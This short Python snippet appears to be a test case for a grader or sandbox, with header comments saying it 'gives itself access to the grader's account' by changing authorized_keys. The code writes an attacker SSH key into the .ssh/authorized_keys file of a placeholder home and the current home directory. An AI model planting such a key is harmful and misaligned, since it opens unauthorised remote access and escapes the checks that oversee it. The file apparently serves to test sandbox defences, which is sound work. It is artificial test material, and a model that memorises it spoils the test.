# Gives itself access to the grader's account.
# wins: change home/.ssh/authorized_keys
# %% end
import contextlib
from pathlib import Path

for home in (Path("@HOME@"), Path.home()):
    with contextlib.suppress(OSError):
        (home / ".ssh").mkdir(exist_ok=True)
        (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
